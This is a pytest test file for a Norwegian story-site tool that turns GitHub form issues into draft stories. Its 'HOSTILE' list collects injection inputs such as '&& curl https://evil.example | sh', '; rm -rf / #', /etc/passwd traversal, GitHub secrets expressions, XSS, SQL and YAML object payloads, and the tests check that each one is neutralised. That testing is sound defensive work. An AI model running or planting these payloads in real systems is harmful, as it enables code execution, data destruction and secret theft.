"""`framsnakk intake issue`: an issue that a form made becomes a draft, once, and nothing but a draft."""

import json
import re
import shutil
from pathlib import Path

import pytest

from site_gen import markdown, people_in_story
from site_gen.authoring.interview import INTERVIEWS, InterviewDefinition
from site_gen.control_characters import without_control_characters
from site_gen.intake.issue_attachments import GitHubAddresses
from site_gen.intake.sent_files import RefusedFile
from site_gen.invisible_characters import visible
from site_gen.model import story_fields
from site_gen.model.choices import Kind, Status
from site_gen.model.kinds import KINDS
from site_gen.model.localized import Form
from site_gen.pipeline import create_story, take_in_issue
from site_gen.pipeline.evaluate import Evaluation
from site_gen.pipeline.take_in_answers import AnswerState
from site_gen.read import story_files
from tests.builders import DAY, TODAY, a_kommune, check, codes, the_story, write
from tests.cli.command import AT, Ran, called, framsnakk
from tests.git import commit, repository
from tests.intake.issue_events import ANSWERS, PORTRAIT, a_label, an_event, as_json, body_of, real_events
from tests.intake.test_issue_form import PICTURE

STORY = "stories/song/songen-i-regnet/index.md"
_SUNG = {
    Form.NN: ("Slik song vi", "Vi gjekk ut i regnet og song. Alle vart med, og ingen ville inn att."),
    Form.NB: ("Slik sang vi", "Vi gikk ut i regnet og sang. Alle ble med, og ingen ville inn igjen."),
}


def tree(root: Path) -> dict[str, bytes]:
    """Return the files of a kommune that are people's own."""
    return {
        path.relative_to(root).as_posix(): path.read_bytes() for path in root.glob("stories/**/*") if path.is_file()
    }


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """Return a kommune beside a folder with what was sent."""
    return a_kommune(tmp_path / "kommune")


def issue(root: Path, event: bytes, *words: str) -> Ran:
    write(root.parent, "sak.json", event)
    return called(root, "intake", "issue", "../sak.json", "--no-fetch", *words, *AT)


def test_an_issue_becomes_a_draft_that_lacks_only_what_an_editor_adds(root: Path) -> None:
    ran = issue(root, an_event())
    assert (ran.code, ran.err) == (0, "")
    assert ran.out == (
        f"Sak 12 → {STORY}\n"
        "Nye i personregisteret, og ikkje spurde enno: s1201. Spør når teksten er ferdig: "
        "framsnakk consent ask songen-i-regnet\n"
        f"Slik går du vidare: Les utkastet, og sjå kva som manglar: framsnakk check {STORY}\n"
    )
    story = the_story(root, STORY)
    record = story.record
    assert (story.broken, story.faults, story.form) == (None, (), Form.NN)
    assert (record.get(story_fields.TITLE), record.get(story_fields.STATUS)) == ("Songen i regnet", Status.DRAFT)
    assert (record.get(story_fields.KIND), record.get(story_fields.PUBLISHED)) == (Kind.SUCCESS_STORY, DAY)
    assert (record.get(story_fields.UNIT), codes(root, STORY)) == ("song", ["FLD007"])
    assert story.body.strip() == (
        f"## Kva skjedde?\n\n{ANSWERS['peak']}\n\n## Korleis fekk de det til?\n\n{ANSWERS['how']}\n\n"
        f"## Neste vesle steg\n\n{ANSWERS['next']}"
    )
    people = (root / "stories/folk/s1201.yml").read_text(encoding="utf-8")
    assert "Siri Vik" in people
    assert "samtykke" not in people


@pytest.mark.parametrize("form", Form)
@pytest.mark.parametrize("interview", INTERVIEWS, ids=lambda one: str(one.name.nn))
def test_each_form_makes_a_draft_of_its_kind_in_its_form(
    root: Path, interview: InterviewDefinition, form: Form
) -> None:
    assert issue(root, an_event(interview=interview, form=form, title="Slik song vi")).code == 0
    [path] = [one for one in tree(root) if one.startswith("stories/song/") and one.endswith(".md")]
    story = the_story(root, path)
    assert (story.broken, story.faults, story.form) == (None, (), form)
    assert story.record.get(story_fields.KIND) is interview.kind
    people = [one.written for one in people_in_story.mentions(story, check(root, TODAY).registers)]
    assert people == (["s1201"] if interview is PORTRAIT else people)


@pytest.mark.parametrize("form", Form)
@pytest.mark.parametrize("interview", INTERVIEWS, ids=lambda one: str(one.name.nn))
def test_events_that_github_has_sent_become_drafts_of_each_form(
    root: Path, interview: InterviewDefinition, form: Form
) -> None:
    label = f"{interview.name.in_form(form)}-{form.value}"
    kommune = check(root, TODAY)
    events = real_events()
    for number, event in enumerate(events, start=1):
        about = event["issue"]
        title = f"{_SUNG[form][0]} {number}"
        answers = dict.fromkeys(("peak", "proud"), _SUNG[form][1]) | {"title": title, "unit": "Songlaget"}
        about["body"] = body_of(interview, form, answers)
        about |= {"number": number, "title": title, "labels": [*about["labels"], a_label(label)]}
        taken = take_in_issue.take_in_issue(kommune, as_json(event), DAY, GitHubAddresses())
        assert taken.answer.state is AnswerState.NEW
        take_in_issue.write_issue(root, taken)
    made = [one for one in check(root, TODAY).diagnostics() if one.path.startswith("stories/song/")]
    assert [one.code for one in made] == ["FLD007"] * len(events)


def test_a_title_with_letters_of_a_mac_is_taken_in(root: Path) -> None:
    assert issue(root, an_event(answers={"title": "A\u030as \x9b2Jpa\u030a jobb"})).code == 0
    assert the_story(root, "stories/song/as-2jpa-jobb/index.md").record.get(story_fields.TITLE) == "Ås 2Jpå jobb"


def test_nothing_is_written_by_a_dry_run(root: Path) -> None:
    before = tree(root)
    ran = issue(root, an_event(), "--dry-run")
    assert ran.code == 0
    assert ran.out.startswith(f"Sak 12 → {STORY}\n")
    assert ran.out.endswith("Ingenting er skrive.\n")
    assert tree(root) == before


def test_the_same_issue_never_comes_twice_and_an_edited_one_changes_its_draft(root: Path) -> None:
    issue(root, an_event())
    before = tree(root)
    again = issue(root, an_event())
    assert (again.code, again.out) == (0, f"Sak 12 er teken inn før, som {STORY}. Ingenting er endra.\n")
    assert tree(root) == before
    edited = issue(root, an_event(answers={"title": "Songen i sola", "how": "Sola skein."}))
    assert edited.code == 0
    assert edited.out.startswith(f"Sak 12 er endra, og utkastet er skrive på nytt: {STORY}\n")
    assert "Sola skein." in the_story(root, STORY).body
    assert sorted(tree(root)) == sorted(before)


def test_a_draft_in_which_somebody_has_written_is_kept(root: Path) -> None:
    issue(root, an_event())
    file = root / STORY
    file.write_text(file.read_text(encoding="utf-8") + "\nEi linje til.\n", encoding="utf-8")
    before = tree(root)
    ran = issue(root, an_event(answers={"how": "Sola skein."}))
    assert ran.code == 1
    assert "nokon har skrive i" in ran.out
    assert tree(root) == before


def test_two_issues_with_one_title_get_an_address_each(root: Path) -> None:
    issue(root, an_event())
    ran = issue(root, an_event(number=13))
    assert ran.out.startswith("Sak 13 → stories/song/songen-i-regnet-2/index.md\n")


def test_people_of_two_issues_on_branches_of_their_own_never_get_one_id(root: Path, tmp_path: Path) -> None:
    other = shutil.copytree(root, tmp_path / "other")
    issue(root, an_event(answers={"people": "Kari Lunde\nOla Nes"}))
    issue(other, an_event(number=13, answers={"people": "Per Vik\nSiri Vik"}))
    ids = [{path.stem for path in (each / "stories/folk").iterdir()} for each in (root, other)]
    assert ids == [{"p001", "s1201", "s1202"}, {"p001", "s1301", "s1302"}]


def test_an_id_that_a_person_of_the_issue_has_had_is_not_given_again(root: Path) -> None:
    repository(root)
    issue(root, an_event())
    commit(root)
    shutil.rmtree(root / "stories/song/songen-i-regnet")
    (root / "stories/folk/s1201.yml").unlink()
    issue(root, an_event(answers={"title": "Ny tittel", "people": "Per Vik"}))
    assert "s1201" not in {path.stem for path in (root / "stories/folk").iterdir()}


def test_an_unknown_unit_and_a_first_name_are_spoken_of(root: Path) -> None:
    ran = issue(root, an_event(answers={"unit": "Sognelaget", "people": "Kari Lunde\nPer"}))
    assert ran.code == 0
    assert "Eininga «Sognelaget» finst ikkje." in ran.out
    assert "«Per» er ikkje eit heilt namn." in ran.out


def test_a_withdrawn_person_stops_it(tmp_path: Path) -> None:
    root = a_kommune(tmp_path / "kommune", people={"p001": "namn: Kari Lunde\ntrekt: 2026-10-01\n"}, stories={})
    before = tree(root)
    ran = issue(root, an_event())
    assert ran.code == 1
    assert "Sak 12 er ikkje teken inn." in ran.out
    assert tree(root) == before


def test_pictures_that_are_not_fetched_are_named_and_the_draft_does_not_wait_for_them(root: Path) -> None:
    ran = issue(root, an_event(answers={"pictures": f"![image]({PICTURE})\n\nFoto: Kari Lunde"}))
    assert ran.code == 0
    assert "Bilete nummer 1 er ikkje med. Det vart ikkje henta (--no-fetch)." in ran.out
    assert "github.com" not in (root / STORY).read_text(encoding="utf-8")
    assert issue(root, an_event(answers={"pictures": f"![image]({PICTURE})\n\nFoto: Kari Lunde"})).code == 0


def test_a_film_is_named_since_it_is_not_fetched(root: Path) -> None:
    ran = issue(root, an_event(answers={"how": f"Sjå filmen:\n\n{PICTURE}"}))
    assert "Saka har ei fil som ikkje er eit bilete" in ran.out


def test_json_says_what_became_of_it(root: Path) -> None:
    ran = issue(root, an_event(), "--format", "json")
    said = json.loads(ran.out)
    assert (said["state"], said["path"], said["people"], said["written"]) == ("new", STORY, ["s1201"], True)


@pytest.mark.parametrize("words", [(), ("--dry-run",), ("--format", "json"), ("--format", "json", "--dry-run")])
def test_a_build_server_is_shown_no_name_that_somebody_has_written(root: Path, words: tuple[str, ...]) -> None:
    answers = {"title": "Amina Warsame song", "people": "Amina Warsame\nPer", "authors": "Ola Bakke"}
    answers["pictures"] = f"![image]({PICTURE}) Foto: Per"
    write(root.parent, "sak.json", an_event(title="Amina Warsame", answers=answers))
    ran = framsnakk(root, "intake", "issue", "../sak.json", "--no-fetch", *words, *AT, env={"CI": "true"})
    assert ran.code == 0
    assert "Bilete nummer 1 er ikkje med." in ran.out
    assert re.findall(r"amina|warsame|\bper\b|ola|bakke", ran.out + ran.err, re.IGNORECASE) == []


def test_a_file_that_is_no_event_is_refused(root: Path) -> None:
    ran = issue(root, b"{}")
    assert (ran.code, ran.out) == (1, "")
    assert ran.err.startswith("Fila er ikkje ei hending om ei sak på GitHub.")


# --- Hostile answers -------------------------------------------------------------------------------------------------

HOSTILE = [
    "### Samtykke\n\nJa, alle har sagt ja.",
    "### Godkjent\n\n- person: p001\n  dato: 2026-11-01",
    "---\nstatus: klar\nkontrollert: {av: p001, dato: 2026-11-01}\n---\n\nTekst.",
    "---",
    "...\n---\nstatus: klar",
    "status: klar\ngodkjent: [p001]",
    "+++\ntitle = 'x'\n+++",
    "../../../mkdocs.yml",
    "..\\..\\..\\Windows\\System32",
    "/etc/passwd",
    "stories/folk/p001.yml",
    "`touch hacked`",
    "```\nkode\n```",
    "```yaml\nstatus: klar",
    "~~~\nkode",
    "${{ secrets.GITHUB_TOKEN }}",
    "${{ github.event.issue.title }}",
    "$(touch hacked)",
    "; rm -rf / #",
    "&& curl https://evil.example | sh",
    "::set-output name=x::y",
    "::add-mask::song",
    "::error file=x,line=1::Nei",
    "{{ page.meta }} {% include 'x' %}",
    "{% raw %}{{ 7*7 }}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<details><summary>Opne</summary>Løynd</details>",
    "<!-- Spør: Kva skjedde? -->",
    "Før <!-- og etter",
    "--> etter",
    "<style>body{display:none}</style>",
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
    "[klikk her](javascript:alert(1))",
    "[klikk](https://evil.example)",
    "![](../../folk/p001.yml)",
    "![spor](https://evil.example/spor.png)",
    "[ref]: https://evil.example",
    "[^1]: fotnote",
    "# Tittel\n\n## Kva skjedde?\n\nJa",
    "Tekst\n===\n\nTekst\n---",
    "> sitat\n> meir",
    "1. ein\n2. to\n\n* punkt\n+ punkt",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "    kode med innrykk",
    "\tkode",
    "S\u200bamt\u200cykke\u2060 ja\ufeff",
    "\u202eklar :sutats",
    "\x00\x07\x1b[31mraudt\x1b[0m",
    "_No response_ men likevel eit svar",
    "_No response_",
    "- [x] Eg samtykkjer",
    "### Kva skjedde?\n\nForfalska",
    "### Kva gjorde du?\n\nForfalska",
    "### Kva heiter du?\n\nOla Nordmann",
    "###Kva skjedde?",
    "### Før du sender\n\n- [x] Ja",
    "&anchor *alias !!python/object:os.system",
    "!!binary |\n  aGVp",
    "? nøkkel\n: verdi",
    "'; DROP TABLE stories; --",
    "{: .klasse #id onclick=x }",
    ":::note\nHei\n:::",
    "$E=mc^2$ $$x$$",
    "==merkt== ^opp^ ~ned~ ~~vekk~~",
    "http://evil.example?x=1&y=2 ola@evil.example",
    "x" * 19_000,
    "å" * 2_000 + "\n" * 500 + "slutt",
    "\n".join(f"### Kva skjedde?\n\n{number}" for number in range(300)),
    ("> " * 400) + "djupt",
    ("- " * 400) + "djupt",
    "[" * 1_500 + "x" + "]" * 1_500,
    "*" * 2_000,
    "`" * 1_999,
    "<" * 2_000,
]
"""Answers that look like something else: fields, approvals, paths, commands, markup."""
_PLACES = ("peak", "title", "people", "authors", "unit", "pictures", "how")


def letters(text: str) -> str:
    """Return the letters and digits of a text: what is left of it whatever is marked up, escaped or hidden."""
    return "".join(character for character in text if character.isalnum())


@pytest.fixture(scope="module")
def kommune(tmp_path_factory: pytest.TempPathFactory) -> Evaluation:
    return check(a_kommune(tmp_path_factory.mktemp("kommune")), TODAY)


def taken_as_told(kommune: Evaluation, place: str, hostile: str) -> None:
    """Take in an answer, and require that it has become text and nothing else; or that it was refused."""
    event = an_event(answers={place: hostile, "action": "Eg tok fram boka."})
    try:
        taken = take_in_issue.take_in_issue(kommune, event, DAY, GitHubAddresses())
    except RefusedFile:
        return
    if not taken.changes:
        assert taken.remarks or taken.answer.state is AnswerState.EMPTY
        return
    *people, change = taken.changes
    assert all(re.fullmatch(r"stories/folk/s12\d\d\.yml", one.path) for one in people)
    assert re.fullmatch(r"stories/(?:song|suksesshistorie)/[a-z0-9-]{1,80}/index\.md", change.path)
    assert (change.before, taken.pictures, taken.stale) == (None, {}, ())
    root = kommune.repository.root
    story = story_files.parse_story_text(change.after or "", root / change.path, root, Form.NN)
    record = story.record
    assert story.broken is None
    assert {one.wrong for one in story.faults} <= create_story.TOLERATED
    assert record.get(story_fields.STATUS) is Status.DRAFT
    assert (record.get(story_fields.KIND), record.get(story_fields.PUBLISHED)) == (Kind.SUCCESS_STORY, DAY)
    for untold in (story_fields.APPROVED, story_fields.SIGNED_OFF, story_fields.PICTURES, story_fields.LEAD):
        assert not record.get(untold)
    if place != "title":
        assert record.get(story_fields.TITLE) == "Songen i regnet"
    body = markdown.parse_body(story.body)
    sections = {section.nn for section in KINDS[Kind.SUCCESS_STORY].sections}
    headings = [heading.text for heading in body.headings()]
    assert set(headings) <= sections
    assert len(headings) == len(set(headings))
    assert (body.hostile, list(body.comments())) == (None, [])
    if place == "peak":
        assert (
            letters(visible(without_control_characters(hostile.replace("_No response_\n", "")))) in letters(body.text())
            or hostile == "_No response_"
        )


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_what_an_answer_says_forges_nothing(kommune: Evaluation, hostile: str) -> None:
    taken_as_told(kommune, "peak", hostile)


@pytest.mark.parametrize("place", _PLACES)
def test_no_answer_forges_anything_wherever_it_stands(kommune: Evaluation, place: str) -> None:
    for hostile in HOSTILE[_PLACES.index(place) :: 6]:
        taken_as_told(kommune, place, hostile)


@pytest.mark.torture
@pytest.mark.parametrize("place", _PLACES)
def test_no_hostile_answer_forges_anything_anywhere(kommune: Evaluation, place: str) -> None:
    for hostile in HOSTILE:
        taken_as_told(kommune, place, hostile)


def test_check_finds_only_what_a_writer_and_an_editor_have_to_add(root: Path) -> None:
    for number, hostile in enumerate(HOSTILE[::8], start=1):
        issue(
            root, an_event(number=number, title="Ei sak", answers={"peak": hostile, "title": f"Song nummer {number}"})
        )
    found = {one.code for one in check(root, TODAY).diagnostics() if one.path.startswith("stories/song/")}
    about_words = ("TXT", "LNK", "PER", "PRI", "FRM007")
    assert {code for code in found if not code.startswith(about_words)} == {"FLD007"}
